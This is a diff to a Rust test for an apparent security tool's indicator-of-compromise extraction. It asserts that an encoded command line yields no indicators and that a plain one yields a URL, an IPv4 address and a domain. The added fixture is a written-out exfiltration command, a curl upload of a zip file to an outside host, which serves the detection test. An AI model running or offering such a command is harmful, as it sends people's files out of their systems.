@@ -112,7 +112,28 @@ fn settings_reach_queries_tables_and_lookups() {
         text(&decoded, "decoded_string")[0].contains("198.51.100.7"),
         "{decoded}"
     );
-    let iocs = process.pivot(&mut qp).lookup("extract_iocs").unwrap();
-    assert!(iocs.height() == 0 || text(&iocs, "IoCType").iter().all(|t| !t.is_empty()));
+    // The encoded command line holds no indicator in clear; a plain one does.
+    let encoded = process.pivot(&mut qp).lookup("extract_iocs").unwrap();
+    assert_eq!(encoded.height(), 0, "{encoded}");
+    let upload: Entity = Process {
+        command_line: Some("curl.exe -T c:\\temp\\q.zip https://files.quietbarn.io/u 198.51.100.7".into()),
+        ..Default::default()
+    }
+    .into();
+    let iocs = upload.pivot(&mut qp).lookup("extract_iocs").unwrap();
+    let found: std::collections::BTreeSet<(String, String)> = text(&iocs, "IoCType")
+        .into_iter()
+        .zip(text(&iocs, "Observable"))
+        .collect();
+    for expected in [
+        ("url", "https://files.quietbarn.io/u"),
+        ("ipv4", "198.51.100.7"),
+        ("dns", "files.quietbarn.io"),
+    ] {
+        assert!(
+            found.contains(&(expected.0.to_string(), expected.1.to_string())),
+            "{expected:?} not in {found:?}"
+        );
+    }
     std::fs::remove_dir_all(&dir).ok();
 }
